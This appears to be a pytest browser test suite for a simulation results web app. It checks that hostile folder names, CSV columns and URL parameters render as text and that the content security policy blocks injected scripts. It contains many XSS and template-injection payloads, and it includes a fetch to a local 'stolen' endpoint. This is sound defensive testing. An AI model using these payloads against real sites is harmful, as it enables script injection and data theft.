"""A hostile results folder and hostile addresses in a browser: texts are shown as texts, no script of theirs runs."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import alterations as alter
import pandas as pd
import pytest

pytestmark = pytest.mark.browser

RAN = "window.hacked"
COLUMNS = (
    "<script>hacked=1</script>",
    "\"><img src=x onerror='hacked=2'>",
    "<svg onload=hacked=3>",
    "' onmouseover=hacked=4 x='",
    "javascript:hacked=5",
    "{{constructor[`constructor`]('hacked=6')()}}",
    "${hacked=7}",
    "__proto__",
    "a[0]['b']\"c",
    "</style><script>hacked=8</script>",
    "</title></svg><iframe srcdoc='<script>parent[`hacked`]=9</script>'>",
)
DOTTED = 'market.x"]<img src=x onerror=window.hacked=10>'
"""A name with a dot is a factor, whose values name design points."""
NAME = "<img src=x onerror=window.hacked=11>"
ARM = "b=0.3 v=1 <svg><script>window.hacked=12</script>"


@pytest.fixture(scope="module")
def hostile(study: Path, tmp_path_factory: pytest.TempPathFactory, serve_folder: Any) -> Iterator[Any]:
    """Return a server of a folder whose names and values are HTML and scripts."""
    folder = tmp_path_factory.mktemp("mailed") / NAME
    shutil.copytree(study, folder)
    runs = pd.read_csv(folder / "export" / "runs.csv", keep_default_na=False)
    runs = runs.assign(**{column: range(len(runs)) for column in COLUMNS}, point=runs["replicate"] % 2)
    runs[DOTTED] = ["<script>window.hacked=13</script>" if point else "\"'><b>" for point in runs["point"]]
    runs["arm"] = [ARM if arm == "b=0.3 v=1" else arm for arm in runs["arm"]]
    runs["layer"] = "<script>window.hacked=14</script>"
    runs.to_csv(folder / "export" / "runs.csv", index=False)
    alter.rewrite_checksums(folder)
    yield from serve_folder(folder)


def watched(browser: Any) -> tuple[Any, list[str]]:
    """Return a page, and the list of what its content policy blocks."""
    page, blocked = browser.new_context().new_page(), []
    page.set_default_timeout(60_000)
    page.on("console", lambda line: blocked.append(line.text) if "Content Security Policy" in line.text else None)
    return page, blocked


@pytest.mark.parametrize("column", COLUMNS)
def test_a_hostile_results_folder_runs_no_script(browser: Any, hostile: Any, column: str) -> None:
    page, blocked = watched(browser)
    page.goto(f"{hostile.address}results?outcome={quote(column)}&arm={quote(ARM)}&point=1")
    main = page.locator("main")
    assert NAME in main.locator("h1").inner_text()
    assert f"{column} against exposure" in main.locator("h2").first.inner_text()
    assert column in main.locator("option").all_inner_texts()
    assert page.locator("main script, main img, iframe, main [onload], main [onerror], main [onmouseover]").count() == 0
    for link in page.locator("a").all():
        assert (link.get_attribute("href") or "").startswith(("./", "?"))
    assert page.evaluate(RAN) is None
    assert blocked == []  # nothing came so far that the policy had to stop it
    page.context.close()


@pytest.mark.parametrize(
    "address",
    [
        "results?outcome=<script>window.hacked=1</script>",
        "results?arm=%22%3E%3Csvg%20onload=window.hacked=1%3E",
        "results?point=<img src=x onerror=window.hacked=1>",
        "?scene=<img src=x onerror=window.hacked=1>",
        "?party.rule=</script><script>window.hacked=1</script>",
        "?<script>window.hacked=1</script>=1",
        "?version=<img src=x onerror=window.hacked=1>&code=</script><script>window.hacked=1</script>",
        "?preset={{constructor.constructor('window.hacked=1')()}}",
        "?seed=javascript:window.hacked=1#<img src=x onerror=window.hacked=1>",
        "expert?a=<script>window.hacked=1</script>",
    ],
)
def test_a_hostile_address_runs_no_script(browser: Any, served: Any, address: str) -> None:
    page, blocked = watched(browser)
    page.goto(served.address + address)
    if address.startswith("?"):
        page.wait_for_function("window.moat && window.moat.live && window.moat.film.loaded > 0")
        if "version=" not in address:
            assert "cannot play this address" in page.locator(".moat-status").inner_text()
    elif address.startswith("expert"):
        page.get_by_text("The world as a Mesa model").first.wait_for()
    else:
        assert "there is no" in page.locator("main").inner_text()
    assert page.locator("img[src=x], .moat script, main script, svg[onload]").count() == 0
    assert page.evaluate(RAN) is None
    assert blocked == []
    page.context.close()


@pytest.mark.parametrize("path", ["", "expert", "teachers", "results"])
def test_the_content_policy_stops_what_would_get_past_the_escaping(browser: Any, served: Any, path: str) -> None:
    page, blocked = watched(browser)
    page.goto(served.address + path)
    page.evaluate("""() => {
        const script = document.createElement("script");
        script.textContent = "window.hacked = 1";
        document.body.append(script);
        const holder = document.createElement("div");
        holder.innerHTML = "<img src=x onerror='window.hacked = 2'><svg onload='window.hacked = 3'></svg>"
            + "<a id=bad href='javascript:window.hacked = 4'>x</a>"
            + "<iframe srcdoc='<script>parent.hacked = 5</script>'></iframe>";
        document.body.append(holder);
        document.getElementById("bad").click();
        const outside = document.createElement("script");
        outside.src = "http://127.0.0.1:9/outside.js";
        document.body.append(outside);
        fetch("http://127.0.0.1:9/stolen").catch(() => {});
    }""")
    page.wait_for_timeout(1500)
    assert page.evaluate(RAN) is None
    assert len(blocked) >= 4
    assert any("outside.js" in line for line in blocked)
    page.context.close()


def test_a_file_saved_from_the_page_plays_and_runs_no_other_script(
    browser: Any, served: Any, visit: Any, tmp_path: Path
) -> None:
    page = visit("?scene=sleeve&step=watch")
    with page.expect_download() as waiting:
        page.get_by_role("button", name="One HTML file").click()
    file = tmp_path / "saved.html"
    waiting.value.save_as(file)
    text = file.read_text(encoding="utf-8")
    file.write_text(text.replace("</body>", "<script>window.hacked = 1</script><img src=x onerror=hacked=2></body>"))
    saved, blocked = watched(browser)
    saved.goto(file.as_uri())
    saved.locator("[data-outcome]").first.wait_for()  # a condition as text would be an evaluation, which is blocked
    assert "45%" in saved.locator("main").inner_text()
    saved.wait_for_timeout(500)
    assert saved.evaluate(RAN) is None
    assert any("script" in line for line in blocked)
    assert not any("style" in line.partition("directive")[0] for line in blocked)
    saved.context.close()
